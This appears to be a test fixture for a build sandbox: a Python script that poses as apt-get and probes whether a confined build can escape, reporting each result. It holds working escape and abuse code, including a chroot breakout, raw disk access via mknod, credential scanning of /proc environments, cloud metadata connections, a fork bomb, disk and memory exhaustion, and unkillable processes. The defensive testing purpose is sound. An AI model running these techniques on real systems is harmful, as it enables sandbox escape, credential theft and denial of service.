#!/usr/bin/python3
"""The apt-get of a base that wants out: it tries, and says how far it came.

The test puts the JSON object SETTINGS in the place of the word below.
"""

import ctypes
import errno
import glob
import json
import os
import signal
import socket
import subprocess
import sys
import time

SETTINGS = json.loads(r"""@SETTINGS@""")
LIBC = ctypes.CDLL(None, use_errno=True)
CLONE_NEWUSER, CLONE_NEWNS, CLONE_NEWNET = 0x10000000, 0x00020000, 0x40000000


def say(name, outcome):
    print(f"PROBE {name}: {outcome}", flush=True)


def call(function, *arguments):
    """The outcome of a system call: `done`, or the name of its error."""
    if function(*arguments) == 0:
        return "done"
    return errno.errorcode.get(ctypes.get_errno(), "failed")


def in_child(work):
    """What `work` returns in a process of its own, which it may ruin."""
    reader, writer = os.pipe()
    child = os.fork()
    if child == 0:
        try:
            answer = str(work())
        except BaseException as error:
            answer = f"{type(error).__name__} {errno.errorcode.get(getattr(error, 'errno', None), '')}".strip()
        os.write(writer, answer.encode())
        os._exit(0)
    os.close(writer)
    answer = os.read(reader, 1000).decode()
    os.waitpid(child, 0)
    return answer


def has_secret(path):
    try:
        with open(path, "rb") as file:
            return SETTINGS["secret"].encode() in file.read(1_000_000)
    except OSError:
        return False


def reads_host_file():
    path = SETTINGS["host_file"]
    roots = ["", "/proc/1/root", "/proc/self/root", "/proc/self/cwd/../../../../../.."]
    return any(has_secret(root + path) for root in roots)


def second_chroot():
    """The way out of a chroot for who may call it again."""
    os.makedirs("/tmp/way-out", exist_ok=True)
    outside = os.open("/", os.O_RDONLY)
    outcome = call(LIBC.chroot, b"/tmp/way-out")
    if outcome == "done":
        os.fchdir(outside)
        for _ in range(64):
            os.chdir("..")
        LIBC.chroot(b".")
        return "read" if has_secret(SETTINGS["host_file"]) else "out, without the file"
    return outcome


def read_disk():
    os.mknod("/tmp/disk", 0o600 | 0o060000, os.makedev(*SETTINGS["disk"]))
    with open("/tmp/disk", "rb") as disk:
        return "read" if disk.read(512) else "nothing"


def connects(host, port):
    try:
        socket.create_connection((host, port), timeout=3).close()
        return "connected"
    except OSError as error:
        return "closed" if error.errno in (errno.ENETUNREACH, errno.EINVAL, errno.EHOSTUNREACH, errno.EACCES) else (
            "refused" if error.errno == errno.ECONNREFUSED else f"no answer ({error})")


def sees_secret():
    """Looks for the credentials of the build wherever a process can look."""
    places = glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline")
    for top in ("/run", "/etc", "/tmp", "/var/tmp", "/root", "/imagewright", "/home"):
        for folder, _, files in os.walk(top):
            places.extend(os.path.join(folder, name) for name in files)
    return [place for place in places if has_secret(place)]


def status(field):
    with open("/proc/self/status") as file:
        return next(line.split()[1] for line in file if line.startswith(field + ":"))


def probe():
    say("host file", "read" if reads_host_file() else "out of sight")
    say("second chroot", in_child(second_chroot))
    say("disk", in_child(read_disk))
    say("mount", in_child(lambda: call(LIBC.mount, b"none", b"/mnt", b"tmpfs", 0, None)))
    say("user namespace", in_child(lambda: call(LIBC.unshare, CLONE_NEWUSER)))
    say("mount namespace", in_child(lambda: call(LIBC.unshare, CLONE_NEWNS)))
    say("network namespace", in_child(lambda: call(LIBC.unshare, CLONE_NEWNET)))
    say("no new privileges", status("NoNewPrivs"))
    say("system calls are filtered", status("Seccomp"))
    powers = int(status("CapBnd"), 16)
    names = {"chroot": 18, "mknod": 27, "raw network": 13, "administration": 21, "network administration": 12,
             "tracing": 19, "modules": 16}
    say("powers", sorted(name for name, bit in names.items() if powers >> bit & 1))
    processes = [open(path, "rb").read() for path in glob.glob("/proc/[0-9]*/cmdline")]
    say("host process", "seen" if any(SETTINGS["victim_mark"].encode() in line for line in processes) else "unseen")
    try:
        os.kill(SETTINGS["victim"], signal.SIGKILL)
        say("signal", "sent")
    except ProcessLookupError:
        say("signal", "nobody there")
    say("loopback", connects("127.0.0.1", SETTINGS["port"]))
    say("gateway", connects("10.0.2.2", SETTINGS["port"]))
    say("own address of the host", connects(SETTINGS["host_address"], SETTINGS["port"]))
    say("link-local metadata", connects("169.254.169.254", 80))
    say("another metadata service", connects("168.63.129.16", 80))
    say("credentials", sees_secret())


def keep_running():
    """Processes that want to outlive everything."""
    endless = "import signal, sys, time\nfor one in range(1, 32):\n  try: signal.signal(one, signal.SIG_IGN)\n" \
              "  except OSError: pass\nwhile True: time.sleep(1)"
    for _ in range(3):
        subprocess.Popen(["/usr/bin/python3", "-c", endless, SETTINGS["mark"]], start_new_session=True,
                         stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


def bomb():
    children = 0
    try:
        while True:
            if os.fork() == 0:
                time.sleep(1000)
                os._exit(0)
            children += 1
            if children >= 20_000:
                break
    except OSError as error:
        say("fork bomb", f"{errno.errorcode[error.errno]} after {'few' if children < 500 else 'many'}")


def fill_disk():
    with open("/usr/share/filler", "wb") as file:
        while True:
            file.write(b"x" * (1 << 20))
            file.flush()
            time.sleep(0.002)


def fill_memory():
    hoard = []
    while True:
        hoard.append(bytearray(os.urandom(1 << 20)) * 16)


if "install" in sys.argv:
    deeds = {"probe": probe, "bomb": bomb, "fill-disk": fill_disk, "fill-memory": fill_memory}
    deed = sys.argv[-1]
    if deed == "endless":
        keep_running()
        print("PROBE endless: running", flush=True)
        while True:
            time.sleep(1)
    elif deed == "daemon":
        keep_running()
    else:
        deeds[deed]()
